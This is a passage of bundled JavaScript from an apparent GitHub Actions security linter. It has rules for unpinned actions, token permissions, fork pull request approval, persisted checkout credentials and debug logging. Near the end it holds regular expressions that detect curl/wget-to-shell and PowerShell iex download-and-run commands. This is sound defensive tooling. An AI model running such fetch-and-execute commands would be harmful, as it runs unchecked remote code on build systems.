  candidates.sort((a, b) => specificity(b[0]) - specificity(a[0]));
  return candidates[0][1];
}
function fixFor(refs, owner, repo, path6, ref) {
  const target2 = `${owner}/${repo}${path6 ? `/${path6}` : ""}`;
  const resolution = ref ? refs?.refs[refKey(owner, repo, ref)] : void 0;
  if (resolution?.sha && resolution.status === "resolved") return `uses: ${target2}@${resolution.sha} # ${resolution.version ?? ref}`;
  return `uses: ${target2}@<40-hex commit SHA of ${ref || "the release"}>${ref ? ` # ${ref}` : ""}`;
}
function checkedOutActions(doc, steps, options) {
  const results = [];
  steps.forEach((step, position) => {
    if (!step.uses || !usesAction(step, "actions/checkout")) return;
    const repository = input(step, "repository")?.value.trim();
    if (!repository || repository.includes("${{") || !/^[\w.-]+\/[\w.-]+$/.test(repository)) return;
    const ref = input(step, "ref");
    const refText = ref?.value.trim() ?? "";
    if (refText.includes("${{") || FULL_SHA.test(refText)) return;
    const folderOf = (checkout) => (input(checkout, "path")?.value ?? "").trim().replace(/^\.\/?/, "").replace(/\/+$/, "");
    const folder = folderOf(step);
    const later = steps.slice(position + 1);
    const replaced = later.findIndex((next) => next.uses !== void 0 && usesAction(next, "actions/checkout") && folderOf(next) === folder);
    const users = (replaced === -1 ? later : later.slice(0, replaced)).filter((candidate) => {
      const uses = candidate.uses;
      if (uses?.kind !== "local" || uses.selfRepository) return false;
      const local = uses.path ?? "";
      return folder === "" || local === folder || local.startsWith(`${folder}/`);
    });
    if (users.length === 0) return;
    const policy = policyFor(repository, options);
    if (policy === "any" || policy === "ref-pin" && refText !== "") return;
    const actions = users.map((later2) => later2.uses.raw.trim()).join(", ");
    results.push({
      status: "fail",
      message: refText === "" ? `local action ${actions} is checked out from ${repository} at its default branch, not a commit SHA` : `local action ${actions} is checked out from ${repository} at "${refText}", a mutable ref, not a commit SHA`,
      location: nodeLocation(doc, ref ? ref.node : step.uses.node),
      fix: `ref: <40-hex commit SHA of ${refText || "the default branch"}>${refText ? ` # ${refText}` : ""}`
    });
  });
  return results;
}
var unpinnedUses = defineWorkflowRule({
  meta: {
    id: "unpinned-uses",
    area: "build",
    severity: "high",
    title: "Action or reusable workflow not pinned to a commit SHA",
    rationale: "Tags and branches are mutable: whoever controls the action repository (or steals its credentials, as in the tj-actions/changed-files compromise) can change the code your workflow runs. A full commit SHA cannot be moved.",
    remediation: "Pin each `uses:` to the full 40-character commit SHA of the release, with the version in a comment (`uses: actions/checkout@<sha> # v4.2.2`), and let Dependabot or Renovate update it. Run chaingate with a token to get the SHA in the fix.",
    references: ["SSC-45", "SLSA Build L3 (hermetic inputs)", "OSPS-BR-05.01", "zizmor: unpinned-uses", "Scorecard: Pinned-Dependencies"],
    access: { token: "none", note: "with a token, fixes name the resolved SHA and version" }
  },
  uses: [actionRefsFact],
  // The resolutions only fill in fix hints (a placeholder when a ref was not resolved).
  gapsHandled: [actionRefsFact],
  defaultOptions: { "ref-pin-allowed": [] },
  strictOptions: { "ref-pin-allowed": [] },
  optionsSchema: {
    type: "object",
    properties: {
      policy: {
        type: "object",
        additionalProperties: { enum: ["hash-pin", "ref-pin", "any"] },
        description: "owner/repo[/path] glob -> hash-pin | ref-pin | any; the most specific glob wins"
      },
      "ref-pin-allowed": { type: "array", items: { type: "string" }, description: "owner/repo globs allowed to use a tag or branch (same as policy: { glob: ref-pin })" }
    }
  },
  model(model, ctx) {
    const refsFact = ctx.fact(actionRefsFact);
    const refs = refsFact.known ? refsFact.value : void 0;
    const results = [];
    const audit = (doc, jobUses, steps) => {
      const sites = [...jobUses ? [{ uses: jobUses, what: "reusable workflow" }] : [], ...steps.flatMap((step) => step.uses ? [{ uses: step.uses, what: "action" }] : [])];
      results.push(...checkedOutActions(doc, steps, ctx.options));
      for (const { uses, what: what2 } of sites) {
        const target2 = remoteTarget(uses);
        if (!target2) continue;
        const { owner, repo, path: path6, ref } = target2;
        const name = `${owner}/${repo}${path6 ? `/${path6}` : ""}`;
        const policy = policyFor(name, ctx.options);
        if (policy === "any") continue;
        if (what2 === "reusable workflow" && tagRequired(name, ref, ctx.options)) continue;
        if (ref !== "" && (policy === "ref-pin" || FULL_SHA.test(ref))) continue;
        const resolution = ref && refs ? refs.refs[refKey(owner, repo, ref)] : void 0;
        const kind = resolution?.status === "resolved" ? resolution.isTag ? resolution.isBranch ? "a tag and a branch" : "a tag" : resolution.isBranch ? "a branch" : "a ref" : "a mutable ref";
        const severity = GITHUB_OWNED.has(owner.toLowerCase()) && ref !== "" && !resolution?.isBranch ? "medium" : void 0;
        results.push({
          status: "fail",
          ...severity ? { severity } : {},
          message: ref === "" ? `${what2} ${name} is used without any ref` : `${what2} ${name} is pinned to "${ref}", ${kind}${kind === "a mutable ref" ? "" : " (mutable)"}, not a commit SHA`,
          location: nodeLocation(doc, uses.node),
          fix: fixFor(refs, owner, repo, path6, ref)
        });
      }
    };
    for (const workflow of model.workflows) for (const job of workflow.jobs) audit(workflow, job.uses, job.steps);
    for (const action of model.actions) audit(action, void 0, action.runs?.steps ?? []);
    return results;
  }
});
function remoteTarget(uses) {
  if (uses.kind === "remote") return { owner: uses.owner, repo: uses.repo, path: uses.path ?? "", ref: uses.ref ?? "" };
  const value = uses.raw.trim().replace(/@$/, "");
  if (uses.kind !== "invalid" || value.includes("${{") || value.startsWith(".") || value.includes("@")) return null;
  const parts = value.split("/");
  if (parts.length < 2 || !parts[0] || !parts[1]) return null;
  return { owner: parts[0], repo: parts[1], path: parts.slice(2).join("/"), ref: "" };
}

// src/github/facts/actions-settings.ts
var ADMIN = "Administration: read";
function target(ctx, _what) {
  if (!ctx.target) return noTarget();
  return known({ owner: ctx.target.owner, repo: ctx.target.repo, client: ctx.elevated ?? ctx.github });
}
var actionsWorkflowPermissionsFact = defineFact("github.actions-workflow-permissions", async (ctx) => {
  const what2 = "the default GITHUB_TOKEN permissions (GET /repos/{owner}/{repo}/actions/permissions/workflow)";
  const t = target(ctx, what2);
  if (!t.known) return t;
  const { owner, repo, client } = t.value;
  return apiFact(client, async (c) => (await c.octokit.rest.actions.getGithubActionsDefaultWorkflowPermissionsRepository({ owner, repo })).data, { what: what2, permission: ADMIN });
});
var actionsPermissionsFact = defineFact("github.actions-permissions", async (ctx) => {
  const what2 = "the Actions policy (GET /repos/{owner}/{repo}/actions/permissions)";
  const t = target(ctx, what2);
  if (!t.known) return t;
  const { owner, repo, client } = t.value;
  return apiFact(client, async (c) => (await c.octokit.rest.actions.getGithubActionsPermissionsRepository({ owner, repo })).data, { what: what2, permission: ADMIN });
});
var selectedActionsFact = defineFact("github.actions-selected-actions", async (ctx) => {
  const policy = await ctx.get(actionsPermissionsFact);
  if (!policy.known) return policy;
  if (policy.value.allowed_actions !== "selected") return known(null);
  const what2 = "the allowed actions list (GET /repos/{owner}/{repo}/actions/permissions/selected-actions)";
  const t = target(ctx, what2);
  if (!t.known) return t;
  const { owner, repo, client } = t.value;
  return apiFact(client, async (c) => (await c.octokit.rest.actions.getAllowedActionsRepository({ owner, repo })).data, { what: what2, permission: ADMIN });
});
var forkPrApprovalFact = defineFact("github.actions-fork-pr-approval", async (ctx) => {
  const what2 = "the fork pull request approval policy (GET /repos/{owner}/{repo}/actions/permissions/fork-pr-contributor-approval)";
  const t = target(ctx, what2);
  if (!t.known) return t;
  const { owner, repo, client } = t.value;
  return apiFact(
    client,
    async (c) => (await c.octokit.request("GET /repos/{owner}/{repo}/actions/permissions/fork-pr-contributor-approval", { owner, repo })).data,
    { what: what2, permission: ADMIN }
  );
});
var environmentsFact = defineFact("github.environments", async (ctx) => {
  const what2 = "deployment environments (GET /repos/{owner}/{repo}/environments)";
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return apiFact(
    ctx.github ?? ctx.elevated,
    async (c) => {
      const all = [];
      for (let page = 1; page <= 10; page += 1) {
        const data = (await c.octokit.rest.repos.getAllEnvironments({ owner, repo, per_page: 100, page })).data;
        const list = data.environments ?? [];
        all.push(...list);
        if (list.length < 100 || all.length >= (data.total_count ?? 0)) break;
      }
      return all;
    },
    // A repository without environments answers 200 with an empty list; 404 is the token's lack of access.
    { what: what2, permission: "Actions: read" }
  );
});
var privateForkPrSettingsFact = defineFact("github.actions-fork-pr-private", async (ctx) => {
  const repository = await ctx.get(repositoryFact);
  if (!repository.known) return repository;
  if (!repository.value.private && repository.value.visibility !== "internal") return known(null);
  const what2 = "fork pull request settings of a private repository (GET /repos/{owner}/{repo}/actions/permissions/fork-pr-workflows-private-repos)";
  const t = target(ctx, what2);
  if (!t.known) return t;
  const { owner, repo, client } = t.value;
  return apiFact(
    client,
    async (c) => (await c.octokit.request("GET /repos/{owner}/{repo}/actions/permissions/fork-pr-workflows-private-repos", { owner, repo })).data,
    { what: what2, permission: ADMIN }
  );
});

// src/rules/build/actions-allowed-actions.ts
var actionsAllowedActions = defineRule({
  meta: {
    id: "actions-allowed-actions",
    area: "build",
    severity: "medium",
    title: "Any action from any owner may run",
    rationale: 'With "Allow all actions and reusable workflows", a workflow change (or a compromised dependency\'s `uses:`) can run code from any account on GitHub. An allow-list (GitHub-owned, verified creators, named owners) limits what a mistake or a malicious pull request can pull in.',
    remediation: 'Settings \u2192 Actions \u2192 General \u2192 Actions permissions: "Allow <owner>, and select non-<owner>, actions and reusable workflows", listing the owners you use (or set it for the organization).',
    references: ["SSC-46", "OSPS-BR-01"],
    access: { token: "elevated", fineGrained: ["Administration: read"], note: "GET /repos/{owner}/{repo}/actions/permissions and /selected-actions" }
  },
  needs: [actionsPermissionsFact, selectedActionsFact],
  defaultOptions: {},
  evaluate(ctx) {
    const policy = ctx.need(actionsPermissionsFact);
    const selected = ctx.need(selectedActionsFact);
    const results = [];
    if (!policy.enabled) return results;
    if (policy.allowed_actions === "all" || policy.allowed_actions === void 0) {
      results.push({ status: "fail", message: "the repository allows all actions and reusable workflows (allowed_actions: all)" });
    } else if (policy.allowed_actions === "selected" && selected) {
      const wildcard = (selected.patterns_allowed ?? []).find((pattern) => pattern.trim() === "*" || pattern.trim() === "*/*");
      if (wildcard) results.push({ status: "fail", message: `the allow-list of actions contains "${wildcard}", which allows every action` });
    }
    return results;
  }
});

// src/rules/build/actions-can-approve-prs.ts
var actionsCanApprovePrs = defineRule({
  meta: {
    id: "actions-can-approve-prs",
    area: "build",
    severity: "high",
    title: "GitHub Actions may approve pull requests",
    rationale: "When workflows can approve pull requests, anyone who can run a workflow with a write token (or inject into one) can approve their own change and satisfy a required review: the review requirement no longer needs a second human.",
    remediation: 'Settings \u2192 Actions \u2192 General \u2192 Workflow permissions: clear "Allow GitHub Actions to create and approve pull requests" (and at organization level).',
    references: ["SSC-48", "OSPS-AC-04.01", "OSPS-QA-07.01"],
    access: { token: "elevated", fineGrained: ["Administration: read"], note: "GET /repos/{owner}/{repo}/actions/permissions/workflow" }
  },
  needs: [actionsWorkflowPermissionsFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.fact(actionsWorkflowPermissionsFact);
    if (!fact.known || !fact.value.can_approve_pull_request_reviews) return [];
    return [{ status: "fail", message: "GitHub Actions can create and approve pull requests in this repository (can_approve_pull_request_reviews: true)" }];
  }
});

// src/rules/build/actions-default-permissions.ts
var actionsDefaultPermissions = defineRule({
  meta: {
    id: "actions-default-permissions",
    area: "build",
    severity: "high",
    title: "Default GITHUB_TOKEN permissions are read and write",
    rationale: 'Every workflow (and job) without its own `permissions:` block gets the repository default. With "Read and write permissions" that is write access to contents, packages, pull requests and more, for every third-party action in every such job.',
    remediation: 'Settings \u2192 Actions \u2192 General \u2192 Workflow permissions: "Read repository contents and packages permissions"; grant writes per job with `permissions:`.',
    references: ["SSC-47", "OSPS-AC-04.01", "Scorecard: Token-Permissions (cannot see this setting)"],
    access: { token: "elevated", fineGrained: ["Administration: read"], note: "GET /repos/{owner}/{repo}/actions/permissions/workflow" }
  },
  needs: [actionsWorkflowPermissionsFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.fact(actionsWorkflowPermissionsFact);
    if (!fact.known || fact.value.default_workflow_permissions === "read") return [];
    return [{ status: "fail", message: "the repository gives the GITHUB_TOKEN read and write permissions by default (default_workflow_permissions: write)" }];
  }
});

// src/rules/build/actions-fork-pr-approval.ts
var ORDER = ["first_time_contributors_new_to_github", "first_time_contributors", "all_external_contributors"];
var LABEL = {
  first_time_contributors_new_to_github: "only first-time contributors who are new to GitHub",
  first_time_contributors: "first-time contributors",
  all_external_contributors: "all outside contributors"
};
var actionsForkPrApproval = defineRule({
  meta: {
    id: "actions-fork-pr-approval",
    area: "build",
    severity: "medium",
    title: "Fork pull request workflows run without maintainer approval",
    rationale: "Workflows triggered by a fork's pull request run the contributor's code. With approval only for accounts new to GitHub, anyone with an older account (or one merged typo fix) runs code on your runners, burns minutes, and probes caches and self-hosted machines.",
    remediation: 'Settings \u2192 Actions \u2192 General \u2192 "Approval for running fork pull request workflows from contributors": "Require approval for all external contributors" (at least "first-time contributors").',
    references: ["SSC-49", "OSPS-BR-01.03"],
    access: { token: "elevated", fineGrained: ["Administration: read"], note: "GET /repos/{owner}/{repo}/actions/permissions/fork-pr-contributor-approval" }
  },
  needs: [forkPrApprovalFact],
  uses: [privateForkPrSettingsFact],
  defaultOptions: { minimum: "first_time_contributors" },
  strictOptions: { minimum: "all_external_contributors" },
  optionsSchema: { type: "object", properties: { minimum: { enum: ORDER, description: "least strict approval policy accepted" } } },
  evaluate(ctx) {
    const fact = ctx.need(forkPrApprovalFact);
    const results = [];
    const actual = fact.approval_policy;
    if (ORDER.indexOf(actual) < ORDER.indexOf(ctx.options.minimum)) {
      results.push({ status: "fail", message: `fork pull request workflows need approval for ${LABEL[actual]} (${actual}); the policy asks for ${LABEL[ctx.options.minimum]}` });
    }
    const privateSettings = ctx.fact(privateForkPrSettingsFact);
    if (privateSettings.known && privateSettings.value?.run_workflows_from_fork_pull_requests) {
      const settings = privateSettings.value;
      if (settings.send_write_tokens_to_workflows) results.push({ status: "fail", severity: "high", message: "workflows from fork pull requests of this private repository get a write token (send_write_tokens_to_workflows: true)" });
      if (settings.send_secrets_and_variables) results.push({ status: "fail", severity: "high", message: "workflows from fork pull requests of this private repository get secrets and variables (send_secrets_and_variables: true)" });
      if (!settings.require_approval_for_fork_pr_workflows) results.push({ status: "fail", message: "workflows from fork pull requests of this private repository run without approval (require_approval_for_fork_pr_workflows: false)" });
    } else if (!privateSettings.known) {
      results.push({ status: "unknown", message: privateSettings.reason, ...privateSettings.permission ? { permission: privateSettings.permission } : {} });
    }
    return results;
  }
});

// src/rules/build/actions-sha-pinning-required.ts
var actionsShaPinningRequired = defineRule({
  meta: {
    id: "actions-sha-pinning-required",
    area: "build",
    severity: "medium",
    title: "GitHub does not enforce SHA pinning of actions",
    rationale: 'The `unpinned-uses` rule checks the workflows of this checkout; the repository setting "Require actions to be pinned to a full-length commit SHA" makes GitHub refuse to run an unpinned action from any branch, including ones this gate never sees.',
    remediation: 'Settings \u2192 Actions \u2192 General \u2192 Actions permissions: enable "Require actions to be pinned to a full-length commit SHA" (or the organization/enterprise policy).',
    references: ["SSC-45", "OSPS-BR-05.01"],
    access: { token: "elevated", fineGrained: ["Administration: read"], note: "GET /repos/{owner}/{repo}/actions/permissions" }
  },
  needs: [actionsPermissionsFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.fact(actionsPermissionsFact);
    if (!fact.known || !fact.value.enabled || fact.value.allowed_actions === "local_only") return [];
    if (fact.value.sha_pinning_required === void 0) {
      return [{ status: "unknown", message: "this GitHub version does not report sha_pinning_required (GET /repos/{owner}/{repo}/actions/permissions)" }];
    }
    if (fact.value.sha_pinning_required) return [];
    return [{ status: "fail", message: "the repository does not require actions to be pinned to a full-length commit SHA (sha_pinning_required: false)" }];
  }
});

// src/rules/build/artipacked.ts
var UPLOADERS = ARTIFACT_UPLOADERS.map((entry2) => entry2.action);
function coversCheckout(paths, checkoutPath) {
  const root = checkoutPath.replace(/^\.\/?/, "").replace(/\/+$/, "");
  return paths.split("\n").some((raw) => {
    const path6 = raw.trim().replace(/^\.\//, "").replace(/\/+$/, "");
    if (path6 === "" || path6.startsWith("!")) return false;
    if (path6 === "." || path6 === "*" || path6 === "**" || path6 === "**/*" || /^\$\{\{\s*github\.workspace\s*\}\}$/.test(path6)) return true;
    if (path6 === ".git" || path6.startsWith(".git/")) return true;
    return root !== "" && (path6 === root || path6 === `${root}/.git` || /^\$\{\{\s*github\.workspace\s*\}\}\//.test(path6) && path6.endsWith(`/${root}`));
  });
}
var GIT_PUSH = /\bgit\s+push\b|\bgit\s+(?:-c\s+\S+\s+)*push\b/;
var PUSHING_COMMANDS = anyCommand(GIT_PUSHING_COMMANDS);
var PUSHING_ACTIONS = GIT_PUSHING_ACTIONS.map((entry2) => entry2.action);
function scriptPushers(model) {
  const out = /* @__PURE__ */ new Set();
  for (const script of model.scripts.values()) {
    if (GIT_PUSH.test(script.text) || PUSHING_COMMANDS.test(script.text)) for (const caller of script.callers) out.add(caller.node);
  }
  return out;
}
var artipacked = defineWorkflowRule({
  meta: {
    id: "artipacked",
    area: "build",
    severity: "medium",
    title: "Checkout persists the token for later steps (credential persistence)",
    rationale: "`actions/checkout` writes the GITHUB_TOKEN into `.git/config` by default. Every later step of the job, including third-party actions and build scripts, can read it, and uploading the checkout as an artifact publishes it to anyone who can download artifacts.",
    remediation: "Set `persist-credentials: false` on `actions/checkout`; steps that push should use an explicit token (`git push https://x-access-token:${TOKEN}@...` or a dedicated action) scoped to that step.",
    references: ["SSC-50", "OSPS-BR-01.03", "zizmor: artipacked"],
    access: { token: "none" }
  },
  defaultOptions: {},
  step(step, ctx) {
    if (!step.uses || !usesAction(step, "actions/checkout")) return null;
    const persist = step.with.get("persist-credentials");
    const persistText = persist?.value?.value;
    if (persistText !== void 0 && persistText.trim().toLowerCase() === "false") return null;
    if (persistText !== void 0 && persistText.includes("${{")) return null;
    const siblings = siblingSteps(step);
    const later = siblings.slice(siblings.indexOf(step) + 1);
    const checkoutPath = input(step, "path")?.value ?? ".";
    const leak = later.find((candidate) => {
      if (!candidate.uses || !UPLOADERS.some((name) => usesAction(candidate, name))) return false;
      const paths = input(candidate, "path")?.value;
      return paths !== void 0 && coversCheckout(paths, checkoutPath);
    });
    const pushers = scriptPushers(ctx.model);
    const pushes = later.some(
      (candidate) => candidate.run && (GIT_PUSH.test(candidate.run.value) || PUSHING_COMMANDS.test(candidate.run.value)) || pushers.has(candidate.node) || usesAction(candidate, ...PUSHING_ACTIONS)
    );
    const where = stepOwner(step);
    const tokenInput = input(step, "token")?.value.trim();
    const credential = tokenInput && !/^\$\{\{\s*(github\.token|secrets\.github_token)\s*\}\}$/i.test(tokenInput) ? `the token from ${tokenInput}` : "the GITHUB_TOKEN";
    const shown = persistText !== void 0;
    const anchor = persist?.value ? persist.value.node : step.uses.node;
    const fix = "with:\n  persist-credentials: false";
    let severity = "medium";
    let message2 = `${where}: actions/checkout keeps ${credential} in .git/config${shown ? " (persist-credentials is true)" : ""}; ${later.length} later step${later.length === 1 ? "" : "s"} can read it`;
    if (leak) {
      severity = "high";
      const leakPath = input(leak, "path")?.value.split("\n")[0];
      message2 = `${where}: actions/checkout keeps ${credential} in .git/config and step ${leak.index + 1} uploads ${leakPath ?? "the checkout"}, which includes it`;
    } else if (later.length === 0 && where === "composite action") {
      message2 = `${where}: actions/checkout keeps ${credential} in .git/config; the steps of the calling job that run after this action can read it`;
    } else if (later.length === 0) {
      severity = "low";
      message2 = `${where}: actions/checkout keeps ${credential} in .git/config (no later step uses it; set persist-credentials: false anyway)`;
    } else if (pushes) {
      severity = "low";
      message2 = `${where}: actions/checkout keeps ${credential} in .git/config for a later git push; every other later step can read it too`;
    }
    return { status: "fail", severity, message: message2, location: nodeLocation(stepDoc(step), anchor), fix };
  }
});

// src/rules/build/env-flags.ts
function truthy(text) {
  if (text === void 0) return false;
  if (text.includes("${{")) return "expression";
  return /^(true|1|yes|on)$/i.test(text.trim()) ? "true" : false;
}
function findEnvFlags(model, names) {
  const wanted = new Set(names.map((name) => name.toUpperCase()));
  const found = [];
  const fromEnv = (doc, env, where) => {
    for (const item of env.values()) {
      if (!wanted.has(item.name.toUpperCase())) continue;
      const value = truthy(item.value?.value);
      if (value) found.push({ name: item.name, where, how: "env", value, location: nodeLocation(doc, item.keyNode) });
    }
  };
  const walk = walkOf(model);
  for (const workflow of walk.workflows) fromEnv(workflow, workflow.env, "the workflow");
  for (const job of walk.jobs) fromEnv(job.workflow, job.env, `job ${job.id}`);
  const pattern = new RegExp(`\\b(${names.join("|")})=(?:"|')?(true|1|yes|on|\\$\\{\\{[^}]*\\}\\})`, "gi");
  for (const step of walk.steps) {
    const doc = stepDoc(step);
    const where = `${stepOwner(step)}, step ${step.index + 1}`;
    fromEnv(doc, step.env, where);
    const run = step.run;
    if (!run || !/GITHUB_ENV/.test(run.value)) continue;
    for (const match of run.value.matchAll(pattern)) {
      const lineEnd = run.value.indexOf("\n", match.index);
      const line = run.value.slice(match.index, lineEnd === -1 ? void 0 : lineEnd);
      if (!/GITHUB_ENV/.test(line)) continue;
      found.push({
        name: match[1],
        where,
        how: "github-env",
        value: match[2].startsWith("${{") ? "expression" : "true",
        location: strLocation(doc, run, match.index, match.index + match[0].length)
      });
    }
  }
  return found;
}

// src/rules/build/debug-logging.ts
var debugLogging = defineWorkflowRule({
  meta: {
    id: "debug-logging",
    area: "build",
    severity: "low",
    title: "Debug logging switched on in the workflow",
    rationale: "Debug logs print the inputs, environment and outputs of every step and runner internals. Left on in a workflow file, every run (including on public repositories, where logs are public) exposes far more than intended; masking only covers registered secrets.",
    remediation: 'Remove the variable. To debug a run, use "Re-run with debug logging" or set the `ACTIONS_STEP_DEBUG` repository variable temporarily.',
    references: ["SSC-25", "poutine: debug_enabled"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    return findEnvFlags(model, ["ACTIONS_STEP_DEBUG", "ACTIONS_RUNNER_DEBUG"]).map((flag) => ({
      status: "fail",
      ...flag.value === "expression" ? { severity: "info" } : {},
      message: `${flag.where} sets ${flag.name}${flag.how === "github-env" ? " through $GITHUB_ENV" : ""}${flag.value === "expression" ? " from an expression" : ""}: debug logs of every run`,
      location: flag.location,
      fix: `remove ${flag.name}; use "Re-run jobs with debug logging" when needed`
    }));
  }
});

// src/rules/build/download-execute.ts
var PIPE_TO_SHELL = /\b(curl|wget)\b[^|;&\n]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+\S+=\S*\s+)*(bash|sh|zsh|dash|ksh|fish|python[\d.]*|node|perl|ruby|pwsh|powershell)\b/g;
var SHELL_OF_DOWNLOAD = /\b(bash|sh|zsh|python[\d.]*)\s+(?:-\w+\s+)*(?:"\$\(|'\$\(|\$\(|<\()\s*(curl|wget)\b/g;
var POWERSHELL = /\b(iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^|\n]*\|\s*(iex|Invoke-Expression)\b|\b(iex|Invoke-Expression)\s*\(?\s*\(?\s*(?:New-Object\s+(?:System\.)?Net\.WebClient\)?\.DownloadString|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b/gi;
var DOWNLOADERS = /\b(?:curl|wget|iwr|irm|iex)\b|Invoke-|DownloadString/i;
var INSTALLERS = /\b(?:pip[\d.]*|python[\d.]*|uvx?|pipx|npm|pnpm|yarn|npx|go|gem|cargo)\b/;
var INSTALL_LINE = /\b(?:pip[\d.]*|uv|pipx|gem|cargo|go)\b[^\n]*\b(?:install|run|tool)\b|\buvx\b|\bnpx\b|\b(?:npm|pnpm|yarn)\b[^\n]*(?:\s-g\b|--global\b|\bglobal\b)|\bpython[\d.]*\b[^\n]*\bpip/;
var PIP_TOOLING = /* @__PURE__ */ new Set(["pip", "setuptools", "wheel"]);
var REPO_PATH = String.raw`(?:[^/\s"'$]+\/[^/\s"']+|\$\{?GITHUB_REPOSITORY\}?|\$\{\{\s*github\.repository\s*\}\})`;
var GITHUB_FILE_AT = new RegExp(String.raw`https?:\/\/(?:github\.com\/${REPO_PATH}\/(?:raw|blob)\/|raw\.githubusercontent\.com\/${REPO_PATH}\/)([^/\s"']+)\/`);
function immutableDownload(command) {
  const ref = GITHUB_FILE_AT.exec(command)?.[1];
  return ref !== void 0 && (/^[0-9a-f]{40}$/i.test(ref) || /^\$\{?GITHUB_SHA\}?$/.test(ref) || /^\$\{\{\s*github\.sha\s*\}\}$/.test(ref));
}
function npmPinned(name) {
  return /^(@[^/]+\/)?[^@]+@\d/.test(name) || /#[0-9a-f]{40}$/i.test(name) || /^https?:\/\/\S+\.(?:tgz|tar\.gz)$/.test(name) || name.startsWith(".") || name.startsWith("/");
}
function words2(command) {
  return command.trim().split(/\s+/).map((word) => word.replace(/^["']|["']$/g, ""));
}
function unpinnedInstall(command) {
  const argv = words2(command);
  while (argv.length > 0 && (argv[0] === "sudo" || argv[0] === "time" || argv[0] === "exec" || argv[0] === "env" || /^[A-Za-z_]\w*=/.test(argv[0]))) argv.shift();
  const [cmd, sub, ...rest] = argv;
  if (!cmd) return void 0;
  const positional = (args, valued) => {
    const out = [];
    for (let i = 0; i < args.length; i += 1) {
      const arg = args[i];
      if (arg.startsWith("-")) {
        if (valued.includes(arg)) i += 1;
        continue;
      }
      if (/^[&|;>]/.test(arg) || arg.startsWith("$") || arg.startsWith("#")) break;
      out.push(arg);
    }
    return out;
  };
  let pipArgs;
  if (/^pip[\d.]*$/.test(cmd) && sub === "install") pipArgs = rest;
  else if (/^python[\d.]*$/.test(cmd) && sub === "-m" && /^pip[\d.]*$/.test(rest[0] ?? "") && rest[1] === "install") pipArgs = rest.slice(2);
  else if (cmd === "uv" && sub === "pip" && rest[0] === "install") pipArgs = rest.slice(1);
  else if (cmd === "pipx" && (sub === "install" || sub === "run")) pipArgs = rest;
  if (pipArgs) {
    const tool = cmd === "pipx" ? `pipx ${sub}` : cmd === "uv" ? "uv pip install" : "pip install";
    if (pipArgs.some((arg) => ["-r", "--requirement", "-c", "--constraint", "--require-hashes", "-e", "--editable"].includes(arg))) return void 0;
    const spec = cmd === "pipx" && sub === "run" ? pipArgs[pipArgs.indexOf("--spec") + 1] : void 0;
    const named = positional(pipArgs, ["-i", "--index-url", "--extra-index-url", "-f", "--find-links", "-t", "--target", "--python", "--prefix", "--root", "--spec", "--pip-args"]);
    const packages = (cmd === "pipx" && sub === "run" ? pipArgs.includes("--spec") ? spec ? [spec] : [] : named.slice(0, 1) : named).filter((name) => !/[=<>~!@]=?|\.whl$|\.tar\.gz$|^\.|^\/|:\/\//.test(name) && !PIP_TOOLING.has(name.toLowerCase().replace(/\[.*\]$/, "")));
    return packages.length > 0 ? { tool, packages } : void 0;
  }
  const npmGlobal = cmd === "npm" && ["install", "i", "add"].includes(sub ?? "") && rest.some((arg) => arg === "-g" || arg === "--global") || cmd === "pnpm" && ["add", "install", "i"].includes(sub ?? "") && rest.some((arg) => arg === "-g" || arg === "--global");
  const yarnGlobal = cmd === "yarn" && sub === "global" && rest[0] === "add";
  if (npmGlobal || yarnGlobal) {
    const packages = positional(yarnGlobal ? rest.slice(1) : rest, ["--registry", "--prefix"]).filter((name) => !npmPinned(name));
    return packages.length > 0 ? { tool: `${cmd} global install`, packages } : void 0;
  }
  if (cmd === "npx" && sub && !sub.startsWith("-")) {
    const name = sub;
    if (npmPinned(name)) return void 0;
    return { tool: "npx", packages: [name] };
  }
  const uvTool = cmd === "uvx" ? [sub, ...rest] : cmd === "uv" && sub === "tool" && (rest[0] === "run" || rest[0] === "install") ? rest.slice(1) : void 0;
  if (uvTool) {
    const args = uvTool.filter((arg) => arg !== void 0);
    const from = args.indexOf("--from");
    const name = from !== -1 ? args[from + 1] : positional(args, ["--python", "-p", "--with", "--index", "--index-url", "--extra-index-url"])[0];
    if (!name || /[=<>~!@]=?|^\.|^\/|:\/\//.test(name)) return void 0;
    return { tool: cmd === "uvx" ? "uvx" : `uv tool ${rest[0]}`, packages: [name] };
  }
  if (cmd === "go" && sub === "install") {
    const packages = positional(rest, ["-ldflags", "-tags", "-o"]).filter((name) => name.includes("/") && (!name.includes("@") || /@(latest|main|master|HEAD)$/.test(name)) && !name.startsWith("."));
    return packages.length > 0 ? { tool: "go install", packages } : void 0;
  }
  if (cmd === "gem" && sub === "install") {
    if (rest.some((arg) => arg === "-v" || arg === "--version" || arg.startsWith("--version="))) return void 0;
    const packages = positional(rest, ["--source", "-i", "--install-dir", "-n", "--bindir"]).filter((name) => !name.endsWith(".gem") && !name.includes(":"));
    return packages.length > 0 ? { tool: "gem install", packages } : void 0;
  }
  if (cmd === "cargo" && sub === "install") {
    if (rest.some((arg) => arg === "--version" || arg === "--vers" || arg === "--path" || arg === "--git" || arg.startsWith("--version="))) return void 0;
    const packages = positional(rest, ["--root", "--target", "--features", "--registry", "--index", "--branch", "--tag", "--rev", "-j", "--jobs"]).filter((name) => !name.includes("@"));
    return packages.length > 0 ? { tool: "cargo install", packages } : void 0;
  }
  return void 0;
}
function scanScript(script) {
  const found = [];
  const downloads = DOWNLOADERS.test(script);
  if (!downloads && !INSTALLERS.test(script)) return found;
  for (const line of logicalLines(script)) {
    const text = line.text;
    if (/^\s*#/.test(text)) continue;
    const original = (start, end) => {
      const from = line.offset(start);
      const to = line.offset(Math.max(start, end - 1));
      return { index: from, length: to + 1 - from };
    };
    let piped = false;
    for (const pattern of downloads && DOWNLOADERS.test(text) ? [PIPE_TO_SHELL, SHELL_OF_DOWNLOAD, POWERSHELL] : []) {
      pattern.lastIndex = 0;
      for (const match of text.matchAll(pattern)) {
        piped = true;
        if (immutableDownload(match[0])) continue;
        found.push({ ...original(match.index, match.index + match[0].length), severity: "medium", message: `downloads and runs a script without checking it: ${match[0].replace(/\s+/g, " ").slice(0, 80)}` });
      }
